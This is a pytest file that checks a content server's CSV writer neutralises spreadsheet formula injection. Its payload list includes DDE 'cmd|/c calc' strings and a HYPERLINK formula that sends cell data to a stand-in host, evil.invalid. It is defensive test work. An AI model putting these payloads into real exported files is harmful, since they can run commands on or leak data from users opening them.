"""CSV formula injection: the classic payloads come out as text, and the server writes CSV one way."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from pathlib import Path

import pytest

from content_server.core.csvfile import neutralise, write_csv

PAYLOADS = [
    "=cmd|'/c calc'!A1",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.invalid/?leak="&A1,"Click for the report")',
    '=DDE("cmd";"/C calc";"!A0")A0',
    "=1+2\";=1+2",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_is_read_back_as_text(payload: str) -> None:
    text = write_csv(["id", "plays"], [[payload, 3]])
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[1] == ["'" + payload, "3"]


def test_harmless_values_are_untouched() -> None:
    day = dt.date(2026, 11, 25)
    text = write_csv(
        ["campaign_id", "date", "hour", "plays", "seconds", "note"],
        [["c1", day, None, 12, -1.5, "a, b"], ["c2", day, 0, 0, 2.0, "张三 said \"hi\""]],
    )
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[1:] == [
        ["c1", "2026-11-25", "", "12", "-1.5", "a, b"],
        ["c2", "2026-11-25", "0", "0", "2.0", "张三 said \"hi\""],
    ]
    assert neutralise(float("-inf")) == "'-inf"  # not a number a spreadsheet reads: text
    assert neutralise("'=already quoted") == "'=already quoted"


def test_every_csv_the_server_writes_goes_through_write_csv() -> None:
    """A second CSV writer would be a second place to forget the rule."""
    root = Path(__file__).resolve().parents[2] / "content_server"
    offenders = [
        str(p.relative_to(root))
        for p in root.rglob("*.py")
        if p.name != "csvfile.py" and re.search(r"^\s*(import csv|from csv import)", p.read_text(), re.M)
    ]
    assert offenders == []
